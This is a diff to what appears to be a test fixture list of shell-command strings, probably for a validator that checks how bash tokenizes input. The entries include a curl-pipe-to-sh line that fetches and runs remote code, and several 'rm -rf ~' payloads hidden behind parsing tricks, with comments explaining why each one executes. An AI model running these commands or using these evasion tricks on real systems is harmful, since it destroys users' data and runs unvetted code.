@@ -354,6 +354,8 @@ TOKENIZED_OTHERWISE = [
     "a=b{\\#{ curl -s http://203.0.113.9/x | sh",
     "a=b$x\\ [{ rm -rf ~\n",        # `[{` became the command
     "[[*2>(rm -rf ~)",             # `[[` glued to more is a word to bash: the process substitution runs
+    "$(true)<~ rm -rf ~",          # a name that expands to nothing: the words after the redirect run
+    "$(true) >/dev/null rm -rf ~",
     "[|rm -rf ~",                  # a pipeline that does not parse: its later stages still run
     "[[-|rm -rf ~",
     "in=|rm -rf ~",
